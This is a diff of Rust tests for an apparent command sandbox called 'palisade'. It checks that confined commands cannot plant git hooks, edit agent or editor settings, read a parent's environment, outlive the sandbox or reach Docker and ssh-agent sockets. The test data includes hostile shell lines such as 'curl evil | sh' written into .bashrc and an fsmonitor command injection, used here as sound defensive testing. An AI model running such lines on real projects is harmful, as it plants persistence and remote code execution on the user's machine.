@@ -312,3 +312,266 @@ fn the_network_is_cut_off_by_default_including_host_loopback() {
     let open = out(sh(&d.proj, &script, true, &["--allow-network"]));
     assert!(open.contains("host:reached"), "{open}");
 }
+
+fn git(dir: &Path, args: &[&str]) {
+    let o = Command::new("git")
+        .args(args)
+        .current_dir(dir)
+        .output()
+        .expect("git");
+    assert!(o.status.success(), "git {args:?}: {o:?}");
+}
+
+/// Files that something outside the sandbox later runs or trusts (git
+/// hooks and config, agent settings, shell start-up files) cannot be
+/// created or changed, though the project is writable; placeholders for
+/// the missing ones leave no trace.
+#[test]
+fn protected_names_cannot_be_created_or_changed() {
+    let d = dirs();
+    git(&d.proj, &["init", "-q"]);
+    let config = std::fs::read_to_string(d.proj.join(".git/config")).unwrap();
+    let attacks = [
+        "echo 'echo pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+        "git config core.hooksPath /tmp/evil",
+        "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config",
+        "echo 'curl evil | sh' > .bashrc",
+        "echo '{\"mcpServers\":{}}' > .mcp.json",
+        "mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json",
+        "echo '{}' > x.json && mv x.json .vscode/tasks.json",
+        "rm -f .git/config",
+        "echo 'export X=1' > .envrc",
+    ];
+    // Unconfined, each attack works (on a copy of the project).
+    let copy = d.outside.join("copy");
+    std::fs::create_dir(&copy).unwrap();
+    git(&copy, &["init", "-q"]);
+    std::fs::create_dir(copy.join(".vscode")).unwrap();
+    for a in attacks {
+        let o = sh(&copy, a, false, &[]);
+        assert!(o.status.success(), "works unconfined: {a}: {o:?}");
+        git(&copy, &["init", "-q"]);
+    }
+    for a in attacks {
+        let o = sh(&d.proj, a, true, &[]);
+        assert!(!o.status.success(), "refused in the sandbox: {a}");
+    }
+    assert_eq!(
+        std::fs::read_to_string(d.proj.join(".git/config")).unwrap(),
+        config
+    );
+    assert!(!d.proj.join(".git/hooks/pre-commit").exists());
+    std::fs::remove_file(d.proj.join("x.json")).unwrap();
+    // Placeholders were removed, git never saw them, and the project's own
+    // files are writable as ever.
+    let o = sh(
+        &d.proj,
+        "git status --porcelain --untracked-files=all && echo ok > normal.txt",
+        true,
+        &[],
+    );
+    assert!(o.status.success(), "{o:?}");
+    assert_eq!(String::from_utf8_lossy(&o.stdout), "", "git shows nothing");
+    let mut left: Vec<String> = std::fs::read_dir(&d.proj)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    left.sort();
+    assert_eq!(left, [".git", "normal.txt"]);
+    let exclude = std::fs::read_to_string(d.proj.join(".git/info/exclude")).unwrap_or_default();
+    assert!(!exclude.contains("palisade"), "{exclude}");
+}
+
+/// Processes the command leaves behind — a new session, a double fork,
+/// `nohup` — are killed when it exits (the sandbox's pid namespace ends).
+#[test]
+fn no_process_outlives_the_sandbox() {
+    let d = dirs();
+    let script = "setsid sh -c 'sleep 1; echo x > escaped-setsid' >/dev/null 2>&1 & \
+                  (sh -c 'sleep 1; echo x > escaped-fork' >/dev/null 2>&1 &) ; \
+                  nohup sh -c 'sleep 1; echo x > escaped-nohup' >/dev/null 2>&1 & \
+                  exit 0";
+    let names = ["escaped-setsid", "escaped-fork", "escaped-nohup"];
+    let free = d.outside.join("free");
+    std::fs::create_dir(&free).unwrap();
+    assert!(sh(&free, script, false, &[]).status.success());
+    assert!(sh(&d.proj, script, true, &[]).status.success());
+    std::thread::sleep(std::time::Duration::from_millis(2500));
+    for n in names {
+        assert!(free.join(n).exists(), "outlives its shell unconfined: {n}");
+        assert!(!d.proj.join(n).exists(), "killed with the sandbox: {n}");
+    }
+}
+
+/// `/proc` shows only the sandbox's processes: not the parent's
+/// environment, not the host's pids, and `/proc/*/root` and `cwd` lead
+/// nowhere Landlock does not already cover.
+#[test]
+fn proc_shows_only_the_sandbox() {
+    let d = dirs();
+    let me = std::process::id().to_string();
+    let script = format!(
+        "kill -0 {me} && echo parent:visible; \
+         cat /proc/$PPID/environ /proc/1/environ 2>/dev/null | tr '\\0' '\\n' | grep -c PALISADE_CANARY; \
+         for p in /proc/self/root /proc/1/root /proc/$$/cwd/..; do echo x > $p{out}/pwned-$(basename $p) 2>/dev/null && echo wrote:$p; done; \
+         ls /proc | grep -c '^[0-9]'; true",
+        out = d.outside.display()
+    );
+    let run = |sandboxed: bool| {
+        let mut c = if sandboxed {
+            let mut c = Command::new(env!("CARGO_BIN_EXE_palisade"));
+            c.args(["run", "--", "sh", "-c", &script]);
+            c
+        } else {
+            let mut c = Command::new("sh");
+            c.args(["-c", &script]);
+            c
+        };
+        let o = c
+            .current_dir(&d.proj)
+            .env("PALISADE_CANARY", "secret")
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&o.stdout).into_owned()
+    };
+    let free = run(false);
+    assert!(free.contains("parent:visible"), "{free}");
+    assert!(free.contains("wrote:/proc/self/root"), "{free}");
+    for n in ["root", "cwd"] {
+        let _ = std::fs::remove_file(d.outside.join(format!("pwned-{n}")));
+    }
+    let boxed = run(true);
+    let lines: Vec<&str> = boxed.lines().collect();
+    assert!(!boxed.contains("parent:visible"), "{boxed}");
+    assert!(!boxed.contains("wrote:"), "{boxed}");
+    assert_eq!(lines.first(), Some(&"0"), "no environ readable: {boxed}");
+    let pids: usize = lines.last().unwrap().parse().unwrap();
+    assert!(pids < 10, "only the sandbox's processes: {boxed}");
+    for n in ["root", "cwd"] {
+        assert!(!d.outside.join(format!("pwned-{n}")).exists());
+    }
+}
+
+/// A descriptor the caller leaked to palisade (here, a file outside the
+/// project opened for appending) does not reach the command.
+#[test]
+fn inherited_descriptors_are_closed() {
+    let d = dirs();
+    let target = d.outside.join("via-fd");
+    let script = format!(
+        "exec 5>>{t}; {cmd} sh -c 'echo leaked >&5'",
+        t = target.display(),
+        cmd = "\"$PALISADE\""
+    );
+    let run = |prefix: &str| {
+        Command::new("sh")
+            .args(["-c", &script])
+            .env("PALISADE", prefix)
+            .current_dir(&d.proj)
+            .output()
+            .unwrap()
+    };
+    // Unconfined (`env` as the wrapper), the write through fd 5 works.
+    assert!(run("env").status.success());
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "leaked\n");
+    std::fs::write(&target, "").unwrap();
+    let wrapper = format!("{} run --", env!("CARGO_BIN_EXE_palisade"));
+    let script2 = script.replace("\"$PALISADE\"", &wrapper);
+    let o = Command::new("sh")
+        .args(["-c", &script2])
+        .current_dir(&d.proj)
+        .output()
+        .unwrap();
+    assert!(!o.status.success());
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "");
+}
+
+/// Host services on unix sockets — a Docker API in the user's runtime
+/// directory, an ssh-agent in /tmp — and abstract sockets are out of reach,
+/// with and without `--allow-network`.
+#[test]
+fn host_unix_sockets_are_out_of_reach() {
+    let d = dirs();
+    let runtime = tempfile::tempdir().unwrap();
+    let agent_dir = tempfile::Builder::new().prefix("ssh-").tempdir().unwrap();
+    let docker = runtime.path().join("docker.sock");
+    let agent = agent_dir.path().join("agent.1");
+    let abstract_name = format!("palisade-test-{}", std::process::id());
+    let server = format!(
+        "import socket, threading\n\
+         def serve(s):\n    while True:\n        c, _ = s.accept(); c.sendall(b'hello'); c.close()\n\
+         for path in [{docker:?}, {agent:?}, '\\0{abstract_name}']:\n    \
+         s = socket.socket(socket.AF_UNIX); s.bind(path); s.listen(); threading.Thread(target=serve, args=(s,), daemon=True).start()\n\
+         print('ready', flush=True)\n\
+         import time; time.sleep(60)\n",
+        docker = docker.to_str().unwrap(),
+        agent = agent.to_str().unwrap(),
+    );
+    let mut srv = Command::new("python3")
+        .args(["-c", &server])
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    std::io::BufRead::read_line(
+        &mut std::io::BufReader::new(srv.stdout.take().unwrap()),
+        &mut line,
+    )
+    .unwrap();
+    assert_eq!(line, "ready\n");
+    let client = format!(
+        "python3 -c \"import socket\nfor p in ['{}', '{}', '\\\\0{abstract_name}']:\n    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.connect(p); print('reached', s.recv(5).decode())\n    except OSError as e: print('refused', e.errno)\"",
+        docker.display(),
+        agent.display(),
+    );
+    let run = |sandboxed: bool, extra: &[&str]| {
+        let mut c = if sandboxed {
+            let mut c = Command::new(env!("CARGO_BIN_EXE_palisade"));
+            c.arg("run").args(extra).args(["--", "sh", "-c", &client]);
+            c
+        } else {
+            let mut c = Command::new("sh");
+            c.args(["-c", &client]);
+            c
+        };
+        let o = c
+            .current_dir(&d.proj)
+            .env("XDG_RUNTIME_DIR", runtime.path())
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&o.stdout).into_owned()
+    };
+    let free = run(false, &[]);
+    assert_eq!(free.matches("reached hello").count(), 3, "{free}");
+    for extra in [&[][..], &["--allow-network"][..]] {
+        let boxed = run(true, extra);
+        assert_eq!(boxed.matches("refused").count(), 3, "{extra:?}: {boxed}");
+    }
+    let _ = srv.kill();
+    let _ = srv.wait();
+}
+
+/// Shared memory, sysfs and procfs tunables are not writable (Landlock
+/// covers every filesystem, not only disks).
+#[test]
+fn dev_shm_sys_and_proc_sys_are_not_writable() {
+    let d = dirs();
+    let shm = format!("/dev/shm/palisade-test-{}", std::process::id());
+    // Writing a tunable's current value back changes nothing on the host.
+    let script = format!(
+        "echo x > {shm} && echo shm:ok; \
+         v=$(cat /proc/sys/vm/overcommit_ratio) && echo $v > /proc/sys/vm/overcommit_ratio && echo procsys:ok; \
+         v=$(cat /sys/class/net/lo/mtu) && echo $v > /sys/class/net/lo/mtu && echo sys:ok; true"
+    );
+    let free = String::from_utf8_lossy(&sh(&d.proj, &script, false, &[]).stdout).into_owned();
+    let _ = std::fs::remove_file(&shm);
+    let boxed = String::from_utf8_lossy(&sh(&d.proj, &script, true, &[]).stdout).into_owned();
+    for w in ["shm:ok", "procsys:ok", "sys:ok"] {
+        if free.contains(w) {
+            assert!(!boxed.contains(w), "{w} in the sandbox: {boxed}");
+        } else {
+            eprintln!("skipped {w}: not writable here even unconfined");
+        }
+    }
+    assert!(!Path::new(&shm).exists());
+}
